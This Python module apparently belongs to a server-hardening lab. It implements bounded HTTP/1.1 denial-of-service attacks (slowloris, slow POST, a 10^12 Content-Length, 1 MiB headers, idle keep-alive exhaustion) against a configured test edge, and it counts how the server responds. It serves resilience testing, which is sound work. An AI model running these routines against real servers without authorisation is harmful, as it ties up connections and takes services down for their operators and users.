"""HTTP/1.1 attacks: many connections held open and fed slowly, oversize heads, the
connection limit. Each bounded by its table row (seconds, connections, frames = writes)."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Callable

from asgilab.attacks.model import Context, Strike

DRIP_S = 0.1  # a byte per connection this often
OPEN_BATCH = 50  # connections opened per step (the good client keeps its share of the accept queue)


class Herd:
    """Many non-blocking connections; what each peer did to its connection is counted."""

    def __init__(self, ctx: Context, strike: Strike) -> None:
        self.ctx, self.strike = ctx, strike
        self.live: list[socket.socket] = []
        self.answers: dict[str, int] = {}  # first status line the peer sent -> connections
        self.writes = 0

    def open(self, n: int, head: bytes = b"") -> None:
        for _ in range(n):
            if self.strike.connections >= self.ctx.attack.connections or self.ctx.left() <= 0:
                return
            try:
                s = socket.create_connection((self.ctx.edge.host, self.ctx.edge.port), timeout=0.5)
            except OSError as exc:
                self.strike.endings[f"connect failed ({type(exc).__name__})"] += 1
                self.strike.cut_off = True
                return
            s.setblocking(False)
            self.strike.connections += 1
            self.live.append(s)
            if head:
                self.write(s, head)

    def write(self, s: socket.socket, data: bytes) -> None:
        if self.writes >= self.ctx.attack.frames:
            return
        try:
            sent = s.send(data)
        except BlockingIOError:
            return
        except OSError:
            self._drop(s, "connection reset")
            return
        self.writes += 1
        self.strike.sent_frames += 1
        self.strike.sent_bytes += sent

    def drip(self, byte: bytes = b"a") -> None:
        for s in list(self.live):
            self.write(s, byte)

    def poll(self) -> None:
        """Connections the peer answered or closed leave the herd, counted by how."""
        if not self.live:
            return
        readable, _, _ = select.select(self.live, [], [], 0)
        for s in readable:
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                self._drop(s, "connection reset")
                continue
            if not data:
                self._drop(s, "connection closed")
            else:
                line = data.split(b"\r\n", 1)[0].decode("latin-1")[:40]
                self.answers[line] = self.answers.get(line, 0) + 1
                self._drop(s, f"answered {line}")

    def hold(self, step: Callable[[], None] | None = None) -> None:
        """Until the attack's time is up: step (drip, open more), then poll."""
        while self.ctx.left() > 0:
            if step:
                step()
            self.poll()
            time.sleep(min(DRIP_S, max(self.ctx.left(), 0)))

    def done(self) -> Strike:
        self.poll()
        held = len(self.live)
        if held:
            self.strike.endings["still open at the end"] += held
        for s in self.live:
            s.close()
        self.live = []
        ended = sum(n for k, n in self.strike.endings.items() if not k.startswith("still open"))
        self.strike.cut_off = self.strike.cut_off or ended > self.strike.connections // 2
        self.strike.detail["held_open_at_end"] = held
        return self.strike

    def _drop(self, s: socket.socket, how: str) -> None:
        self.strike.endings[how] += 1
        if s in self.live:
            self.live.remove(s)
        s.close()


def _host(ctx: Context) -> bytes:
    return f"Host: {ctx.edge.host}:{ctx.edge.port}\r\n".encode()


def _slow(ctx: Context, head: bytes) -> Strike:
    """Opens connections in batches while dripping a byte a tick into every live one."""
    herd = Herd(ctx, Strike())
    herd.open(OPEN_BATCH, head)
    ctx.tr.send(f"{len(herd.live)} connections: {head[:60]!r}…, then a byte each per {DRIP_S:g}s")

    def step() -> None:
        herd.drip()
        herd.open(OPEN_BATCH, head)
    herd.hold(step)
    ctx.tr.note(f"{herd.strike.connections} connections opened, {herd.writes} writes")
    return herd.done()


def slowloris(ctx: Context) -> Strike:
    return _slow(ctx, b"GET /query HTTP/1.1\r\n" + _host(ctx) + b"X-Slow: ")


def slow_post(ctx: Context) -> Strike:
    return _slow(ctx, b"POST /echo HTTP/1.1\r\n" + _host(ctx) +
                 b"Content-Type: application/octet-stream\r\nContent-Length: 1048576\r\n\r\n")


def huge_content_length(ctx: Context) -> Strike:
    head = (b"POST /echo HTTP/1.1\r\n" + _host(ctx) +
            b"Content-Type: application/octet-stream\r\nContent-Length: 1000000000000\r\n\r\n")
    herd = Herd(ctx, Strike())
    herd.open(ctx.attack.connections, head)
    ctx.tr.send(f"{herd.strike.connections} × POST /echo with Content-Length 10^12 and no body")
    herd.hold()
    return herd.done()


def oversize_headers(ctx: Context) -> Strike:
    """Alternately a 1 MiB request target and 1 MiB of headers, one connection each."""
    s = Strike()
    big = b"a" * (1 << 20)
    answers: dict[str, int] = {}
    while ctx.left() > 0 and s.connections < ctx.attack.connections:
        if s.connections % 2 == 0:
            req = b"GET /query?" + big + b" HTTP/1.1\r\n" + _host(ctx) + b"\r\n"
        else:
            req = b"GET /query HTTP/1.1\r\n" + _host(ctx) + b"".join(
                b"X-Big-%d: %s\r\n" % (k, big[:8192]) for k in range(128)) + b"\r\n"
        how = _one_shot(ctx, req)
        s.connections += 1
        s.sent_frames += 1
        s.sent_bytes += len(req)
        answers[how] = answers.get(how, 0) + 1
    for how, n in answers.items():
        s.endings[how] += n
    s.detail["answers"] = answers
    # Cut off: every oversize request refused (4xx) or its connection closed, none served.
    s.cut_off = not any(k.startswith("answered HTTP/1.1 2") for k in answers)
    ctx.tr.recv(", ".join(f"{n} × {k}" for k, n in answers.items()))
    return s


def _one_shot(ctx: Context, req: bytes) -> str:
    try:
        with socket.create_connection((ctx.edge.host, ctx.edge.port), timeout=1.0) as sock:
            sock.settimeout(1.0)
            try:
                sock.sendall(req)
            except OSError:
                pass  # a server may answer and close before reading it all: read what it said
            try:
                data = sock.recv(4096)
            except TimeoutError:
                return "no answer within 1s"
            except OSError:
                return "connection reset"
    except OSError as exc:
        return f"connect failed ({type(exc).__name__})"
    if not data:
        return "connection closed"
    return "answered " + data.split(b"\r\n", 1)[0].decode("latin-1")[:40]


def idle_keepalive(ctx: Context) -> Strike:
    """Connections that each made one request and then stay silent: the connection limit."""
    herd = Herd(ctx, Strike())
    req = b"GET /query HTTP/1.1\r\n" + _host(ctx) + b"\r\n"
    served = 0
    while ctx.left() > 0 and herd.strike.connections < ctx.attack.connections:
        before = len(herd.live)
        herd.open(OPEN_BATCH, req)
        if len(herd.live) == before:
            break
        time.sleep(0.02)
        for s in list(herd.live):
            try:
                if s.recv(65536):
                    served += 1  # answered; keep it, idle
            except BlockingIOError:
                pass
            except OSError:
                herd._drop(s, "connection reset")
    herd.strike.detail["answered_then_idle"] = served
    ctx.tr.send(f"{herd.strike.connections} connections, one GET /query each, then idle")
    # Idle from here: only a close by the peer changes anything (no more answers are owed).
    while ctx.left() > 0:
        wait = min(0.1, max(ctx.left(), 0))
        readable = select.select(herd.live, [], [], wait)[0] if herd.live else []
        for s in readable:
            try:
                if not s.recv(65536):
                    herd._drop(s, "closed while idle")
            except BlockingIOError:
                pass
            except OSError:
                herd._drop(s, "connection reset")
        if not herd.live:
            time.sleep(min(0.1, max(ctx.left(), 0)))
    return herd.done()
